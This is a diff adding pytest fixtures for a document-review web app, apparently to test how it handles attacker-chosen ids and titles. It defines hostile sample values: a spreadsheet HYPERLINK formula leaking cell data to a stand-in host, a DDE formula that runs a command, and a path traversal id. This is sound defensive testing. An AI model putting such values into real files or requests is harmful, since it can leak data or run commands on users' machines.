@@ -123,3 +123,32 @@ def review_client(review_db: Path) -> Iterator[TestClient]:
     """Return a client over the review register, not signed in yet."""
     with TestClient(create_app(str(review_db), secret_key=SECRET)) as test_client:
         yield test_client
+
+
+# Documents whose id, title and URL an attacker chose (a JSON Lines source gives its own
+# ids): a spreadsheet formula, a path out of /documents/, characters that end a path.
+FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+TRAVERSAL_ID = "../../api/openapi.json"
+AWKWARD_ID = "news/2024 10?x=1#top"
+CHOSEN_IDS = (FORMULA_ID, TRAVERSAL_ID, AWKWARD_ID)
+FORMULA_TITLE = "=cmd|' /C calc'!A0"
+
+
+def chosen_id_documents() -> Iterator[Document]:
+    """Yield one document per chosen id, each with a sentence that gives a record."""
+    sentences = ("Serbia ordered 12 Rafale jets from France.",
+                 "Poland ordered 48 K9 howitzers from South Korea.",
+                 "Egypt received 4 MEKO A-200 frigates from Germany.")
+    for document_id, sentence in zip(CHOSEN_IDS, sentences, strict=True):
+        yield Document(id=document_id, text=sentence, source="tests/web/chosen-ids",
+                       url="+1 555 0100", title=FORMULA_TITLE, published=dt.date(2024, 5, 2))
+
+
+@pytest.fixture(scope="session")
+def chosen_ids_db(tmp_path_factory: pytest.TempPathFactory, extractor) -> Path:  # noqa: ANN001
+    """Return a register of the documents with chosen ids, and one analyst."""
+    db = tmp_path_factory.mktemp("chosen") / "register.db"
+    with open_store(db) as store:
+        ingest_documents(chosen_id_documents(), store, extractor)
+        store.add_user(new_user(ANALYST, ANALYST_PASSWORD))
+    return db
